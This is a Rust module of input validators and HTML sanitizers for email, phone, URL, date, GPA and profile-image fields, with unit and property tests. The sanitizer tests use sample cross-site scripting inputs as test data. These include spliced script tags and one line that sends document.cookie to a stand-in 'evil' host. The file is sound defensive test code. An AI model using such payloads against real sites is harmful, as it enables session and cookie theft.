//! Field validators and sanitizers.
//!
//! Every function here looks at a single value and nothing else: no record
//! state, no I/O. Validators answer yes/no; sanitizers return the cleaned value.

use once_cell::sync::Lazy;
use regex::Regex;
use serde::Serialize;
use thiserror::Error;

use crate::models::record::PRESENT;

/// Largest accepted profile image, in bytes (5 MiB).
pub const MAX_IMAGE_BYTES: usize = 5 * 1024 * 1024;

pub const ALLOWED_IMAGE_TYPES: &[&str] = &["image/jpeg", "image/png", "image/webp"];

static EMAIL_RE: Lazy<Regex> = Lazy::new(|| Regex::new(r"^[^\s@]+@[^\s@]+\.[^\s@]+$").unwrap());
// `\d` in the regex crate is Unicode-aware; these fields only take ASCII digits.
static PHONE_RE: Lazy<Regex> = Lazy::new(|| Regex::new(r"^[0-9\s+\-()]+$").unwrap());
static YEAR_MONTH_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^[0-9]{4}-(0[1-9]|1[0-2])$").unwrap());
static GPA_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^([0-9]+(?:\.[0-9]+)?)/([0-9]+(?:\.[0-9]+)?)$").unwrap());
static SCRIPT_BLOCK_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?is)<script\b[^>]*>.*?</script[^>]*>").unwrap());
// A script element left open runs to the end of the document in a browser.
static UNCLOSED_SCRIPT_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?is)<script\b[^>]*>.*$").unwrap());
static TAG_RE: Lazy<Regex> = Lazy::new(|| Regex::new(r"<[^>]*>").unwrap());

const MIN_PHONE_LEN: usize = 10;

#[derive(Debug, Clone, PartialEq, Eq, Error, Serialize)]
#[serde(tag = "reason", rename_all = "snake_case")]
pub enum ImageRejection {
    #[error("Unsupported image type '{mime_type}'; use JPEG, PNG or WebP")]
    UnsupportedType { mime_type: String },

    #[error("Image is {size} bytes; the limit is {limit} bytes")]
    TooLarge { size: usize, limit: usize },
}

pub fn is_valid_email(value: &str) -> bool {
    EMAIL_RE.is_match(value)
}

/// At least ten characters, drawn only from digits, whitespace and `+ - ( )`.
pub fn is_valid_phone(value: &str) -> bool {
    value.chars().count() >= MIN_PHONE_LEN && PHONE_RE.is_match(value)
}

/// Any well-formed absolute URL. The scheme is not restricted.
pub fn is_valid_url(value: &str) -> bool {
    reqwest::Url::parse(value).is_ok()
}

/// `YYYY-MM` with month 01..=12, or the literal `Present`.
///
/// Position is not checked here; `Present` as a start date is rejected by
/// the section models and by whole-record validation.
pub fn is_valid_date(value: &str) -> bool {
    value == PRESENT || YEAR_MONTH_RE.is_match(value)
}

pub fn is_present(value: &str) -> bool {
    value == PRESENT
}

/// `earned/total`, decimals allowed, with `earned <= total` and `total > 0`.
pub fn is_valid_gpa(value: &str) -> bool {
    let Some(caps) = GPA_RE.captures(value) else {
        return false;
    };
    let (Ok(earned), Ok(total)) = (caps[1].parse::<f64>(), caps[2].parse::<f64>()) else {
        return false;
    };
    total > 0.0 && earned <= total
}

/// Checks the MIME type against the allow-list first, then the size.
pub fn validate_image(mime_type: &str, size: usize) -> Result<(), ImageRejection> {
    if !ALLOWED_IMAGE_TYPES.contains(&mime_type) {
        return Err(ImageRejection::UnsupportedType {
            mime_type: mime_type.to_string(),
        });
    }
    if size > MAX_IMAGE_BYTES {
        return Err(ImageRejection::TooLarge {
            size,
            limit: MAX_IMAGE_BYTES,
        });
    }
    Ok(())
}

/// Strips script blocks and every remaining tag, then trims.
/// Used for short identity fields. Idempotent.
pub fn sanitize_strict(value: &str) -> String {
    let without_scripts = strip_script_blocks(value);
    TAG_RE.replace_all(&without_scripts, "").trim().to_string()
}

/// Strips script blocks only; other markup survives. Used for descriptions.
pub fn sanitize_rich(value: &str) -> String {
    strip_script_blocks(value).trim().to_string()
}

// Removing one block can splice together a new one ("<scr<script></script>ipt>"),
// so repeat until nothing matches. An unterminated block is cut to the end.
fn strip_script_blocks(value: &str) -> String {
    let mut current = value.to_string();
    loop {
        let closed = SCRIPT_BLOCK_RE.replace_all(&current, "");
        let next = UNCLOSED_SCRIPT_RE.replace(&closed, "").into_owned();
        if next == current {
            return current;
        }
        current = next;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const MIB: usize = 1024 * 1024;

    // Markup-heavy inputs, including script tags with and without closers.
    const MARKUP: &str = "(<script>|</script x>|[<>a-z/ =]){0,24}";

    static SCRIPT_OPEN_RE: Lazy<Regex> =
        Lazy::new(|| Regex::new(r"(?i)<script\b[^>]*>").unwrap());

    #[test]
    fn test_email_accepts_simple_address() {
        assert!(is_valid_email("ada@example.com"));
        assert!(is_valid_email("first.last+cv@mail.example.co.uk"));
    }

    #[test]
    fn test_email_rejects_malformed() {
        assert!(!is_valid_email("ada@example"));
        assert!(!is_valid_email("ada example@example.com"));
        assert!(!is_valid_email("@example.com"));
        assert!(!is_valid_email(""));
    }

    #[test]
    fn test_phone_accepts_formatted_numbers() {
        assert!(is_valid_phone("+1 (555) 123-4567"));
        assert!(is_valid_phone("5551234567"));
    }

    #[test]
    fn test_phone_rejects_short_or_lettered() {
        assert!(!is_valid_phone("555-1234"));
        assert!(!is_valid_phone("555-CALL-NOW"));
        assert!(!is_valid_phone("+1 555 123 456x"));
    }

    #[test]
    fn test_phone_rejects_non_ascii_digits() {
        assert!(!is_valid_phone("٥٥٥١٢٣٤٥٦٧"));
        assert!(!is_valid_phone("+1 ５５５ 123 4567"));
    }

    #[test]
    fn test_url_requires_absolute_form() {
        assert!(is_valid_url("https://github.com/ada"));
        assert!(is_valid_url("ftp://files.example.com/cv.pdf"));
        assert!(!is_valid_url("github.com/ada"));
        assert!(!is_valid_url("/relative/path"));
    }

    #[test]
    fn test_date_accepts_every_month() {
        for month in 1..=12 {
            let value = format!("2023-{month:02}");
            assert!(is_valid_date(&value), "{value} should be valid");
        }
    }

    #[test]
    fn test_date_rejects_out_of_range_months() {
        assert!(!is_valid_date("2023-00"));
        assert!(!is_valid_date("2023-13"));
    }

    #[test]
    fn test_date_rejects_non_ascii_digits() {
        assert!(!is_valid_date("٢٠٢٣-01"));
        assert!(!is_valid_date("２０２３-01"));
    }

    #[test]
    fn test_date_rejects_other_shapes() {
        assert!(!is_valid_date("2023-1"));
        assert!(!is_valid_date("23-01"));
        assert!(!is_valid_date("2023/01"));
        assert!(!is_valid_date("2023-01-15"));
        assert!(!is_valid_date("present"));
        assert!(!is_valid_date(""));
    }

    #[test]
    fn test_date_accepts_present_literal() {
        assert!(is_valid_date("Present"));
        assert!(is_present("Present"));
    }

    #[test]
    fn test_gpa_accepts_earned_not_above_total() {
        assert!(is_valid_gpa("3.8/4.0"));
        assert!(is_valid_gpa("4/4"));
        assert!(is_valid_gpa("8.5/10"));
        assert!(is_valid_gpa("0/4"));
    }

    #[test]
    fn test_gpa_rejects_earned_above_total() {
        assert!(!is_valid_gpa("4.2/4.0"));
    }

    #[test]
    fn test_gpa_rejects_malformed() {
        assert!(!is_valid_gpa("3.8"));
        assert!(!is_valid_gpa("x/y"));
        assert!(!is_valid_gpa("-1/4"));
        assert!(!is_valid_gpa("3.8/"));
        assert!(!is_valid_gpa("3/0"));
        assert!(!is_valid_gpa("٣/٤"));
    }

    #[test]
    fn test_image_rejects_oversized_jpeg() {
        assert_eq!(
            validate_image("image/jpeg", 6 * MIB),
            Err(ImageRejection::TooLarge {
                size: 6 * MIB,
                limit: MAX_IMAGE_BYTES
            })
        );
    }

    #[test]
    fn test_image_rejects_svg() {
        assert!(matches!(
            validate_image("image/svg+xml", 2 * MIB),
            Err(ImageRejection::UnsupportedType { .. })
        ));
    }

    #[test]
    fn test_image_accepts_png_under_limit() {
        assert_eq!(validate_image("image/png", 2 * MIB), Ok(()));
        assert_eq!(validate_image("image/webp", MAX_IMAGE_BYTES), Ok(()));
    }

    #[test]
    fn test_sanitize_strict_removes_script_and_tags() {
        assert_eq!(
            sanitize_strict("  <b>Ada</b><script>alert('x')</script> Lovelace "),
            "Ada Lovelace"
        );
    }

    #[test]
    fn test_sanitize_strict_handles_uppercase_script() {
        let input = "<SCRIPT type=\"x\">evil()</SCRIPT>Ada";
        assert_eq!(sanitize_strict(input), "Ada");
    }

    #[test]
    fn test_sanitize_rich_keeps_formatting() {
        assert_eq!(
            sanitize_rich(" <p>Built <strong>fast</strong> APIs</p><script>x()</script> "),
            "<p>Built <strong>fast</strong> APIs</p>"
        );
    }

    #[test]
    fn test_sanitize_rich_removes_spliced_script() {
        let out = sanitize_rich("<scr<script></script>ipt>alert(1)</script>ok");
        assert_eq!(out, "ok");
    }

    #[test]
    fn test_sanitize_rich_drops_unterminated_script() {
        assert_eq!(
            sanitize_rich("<p>Hi</p><script>fetch('//evil/'+document.cookie)"),
            "<p>Hi</p>"
        );
        assert_eq!(sanitize_strict("Ada<script src=x>evil()"), "Ada");
    }

    #[test]
    fn test_sanitize_rich_accepts_attributes_on_close_tag() {
        assert_eq!(sanitize_rich("<script>alert(1)</script foo>ok"), "ok");
        assert_eq!(sanitize_rich("<script>a()</script\n>ok"), "ok");
    }

    proptest! {
        #[test]
        fn prop_sanitize_strict_is_idempotent(s in ".*") {
            let once = sanitize_strict(&s);
            prop_assert_eq!(sanitize_strict(&once), once.clone());
            prop_assert!(!TAG_RE.is_match(&once));
        }

        #[test]
        fn prop_sanitize_strict_idempotent_on_markup(s in MARKUP) {
            let once = sanitize_strict(&s);
            prop_assert_eq!(sanitize_strict(&once), once.clone());
            prop_assert!(!once.to_lowercase().contains("<script>"));
        }

        #[test]
        fn prop_sanitize_rich_is_idempotent(s in MARKUP) {
            let once = sanitize_rich(&s);
            prop_assert_eq!(sanitize_rich(&once), once.clone());
            prop_assert!(!SCRIPT_OPEN_RE.is_match(&once));
        }
    }
}
